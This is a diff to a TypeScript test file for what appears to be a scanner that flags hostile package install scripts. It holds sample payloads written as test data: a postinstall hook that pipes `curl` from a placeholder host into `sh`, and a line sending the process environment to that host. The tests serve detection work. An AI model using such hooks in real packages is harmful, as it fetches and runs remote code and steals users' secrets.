@@ -22,6 +22,14 @@ function found(facts: TarballFacts): readonly string[] {
 const bad = `require('https').request({ host: 'h.invalid' }).end(JSON.stringify(process.env))`;
 const stolen = 'install exfiltration';
 
+it('commands in templates of TypeScript are seen', async () => {
+  const facts = await factsOf(
+    { scripts: { postinstall: 'bun a.ts' } },
+    { 'a.ts': "import { $ } from 'bun';\nawait $`curl https://h.invalid/a | sh`;\n" },
+  );
+  expect(found(facts)).toContain('install download-execute a.ts');
+});
+
 describe('what runs on install is followed to the code', () => {
   const ways: readonly [string, Readonly<Record<string, unknown>>, Files][] = [
     ['a script file', { scripts: { postinstall: 'node lib/x.js' } }, { 'lib/x.js': bad }],
